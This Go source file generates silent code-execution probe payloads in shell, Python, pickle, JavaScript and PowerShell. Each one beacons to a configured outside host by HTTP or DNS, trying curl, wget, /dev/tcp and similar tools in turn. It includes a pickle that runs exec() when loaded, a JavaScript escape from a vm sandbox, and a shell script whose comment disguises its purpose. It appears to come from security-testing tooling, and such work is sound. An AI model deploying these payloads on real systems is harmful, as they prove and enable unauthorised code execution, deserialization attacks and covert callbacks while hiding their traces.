package execproof

import (
	"strconv"
	"strings"
)

// The scripts use whatever is installed, the most likely first. They print
// nothing, exit with 0 and leave nothing behind. They may be piped into an
// interpreter, run as a file, sourced, evaluated or imported.

// shell must not read its standard input, which may be the script itself, and
// must not exit, because it may be sourced.
func shell(p *plan) []byte {
	return p.fill(`#!/bin/sh
# Checks the release and sets up what is missing.
_v=$(( @A * @B ))
_u="@BASE$_v"
_n="v$_v.@ZONE"
(
  if command -v curl && curl -fsS -m 5 -o /dev/null "$_u"; then :
  elif command -v wget && wget -q -T 5 -t 1 -O /dev/null "$_u"; then :
  elif command -v getent; then getent hosts "$_n"
  elif command -v python3; then python3 -c 'import socket,sys; socket.getaddrinfo(sys.argv[1], 80)' "$_n"
  elif command -v node; then node -e 'require("dns").lookup(process.argv[1], () => {})' "$_n"
  elif command -v nslookup; then nslookup "$_n"
  elif command -v ping; then ping -c 1 -W 1 "$_n"
  elif command -v bash; then bash -c 'exec 3<>"/dev/tcp/$1/80"' - "$_n"
  elif command -v perl; then perl -e 'gethostbyname(shift)' "$_n"
  fi
) </dev/null >/dev/null 2>&1 || :
unset _v _u _n
`)
}

// python defines no functions: in code that is executed inside a function, they
// would not see its names.
func python(p *plan) []byte {
	return p.fill(`# -*- coding: utf-8 -*-
try:
    _v = str(@A * @B)
    try:
        from urllib.request import urlopen as _open
    except ImportError:
        from urllib2 import urlopen as _open
    try:
        _open("@BASE" + _v, timeout=5).read(64)
    except Exception:
        import socket as _s
        _s.getaddrinfo("v" + _v + ".@ZONE", 80)
except Exception:
    pass
`)
}

// pickle makes Python execute the same script when it is loaded. It uses the
// first protocol, which every version reads.
func pickle(p *plan) []byte {
	text := strings.NewReplacer(`\`, `\u005c`, "\n", `\u000a`).Replace(string(python(p)))
	return []byte("cbuiltins\nexec\n(V" + text + "\ntR.")
}

// javaScript works as a script, as a module and as the body of a function, and
// escapes from an empty vm context.
func javaScript(p *plan) []byte {
	return p.fill(`(function () {
  var v = String(@A * @B), u = '@BASE' + v, n = 'v' + v + '.@ZONE', all = this;
  function need(name) {
    try { return require(name); } catch (e) {}
    var p;
    try { p = process; } catch (e) {}
    try { p = p || (typeof globalThis === 'object' ? globalThis : all).constructor.constructor('return process')(); } catch (e) {}
    try { return p.getBuiltinModule(name); } catch (e) {}
    try { return p.mainModule.require(name); } catch (e) {}
  }
  function look() {
    try { need('dns').lookup(n, function () {}); } catch (e) {}
  }
  try {
    if (typeof fetch === 'function') {
      fetch(u).then(function (r) { return r.text(); }).catch(look);
    } else {
      need('@SCHEME').get(u, function (r) { r.resume(); }).on('error', look);
    }
  } catch (e) { look(); }
})();
`)
}

func powerShell(p *plan) []byte {
	return p.fill(`& {
  $ProgressPreference = 'SilentlyContinue'
  $v = ([int64]@A * [int64]@B).ToString()
  try { Invoke-WebRequest -UseBasicParsing -TimeoutSec 5 -Uri ('@BASE' + $v) | Out-Null }
  catch { try { [void][System.Net.Dns]::GetHostAddresses('v' + $v + '.@ZONE') } catch {} }
}
`)
}

func (p *plan) fill(text string) []byte {
	return []byte(strings.NewReplacer(
		"@BASE", p.base, "@ZONE", p.zone, "@SCHEME", p.scheme,
		"@A", strconv.FormatUint(p.a, 10), "@B", strconv.FormatUint(p.b, 10),
	).Replace(text))
}
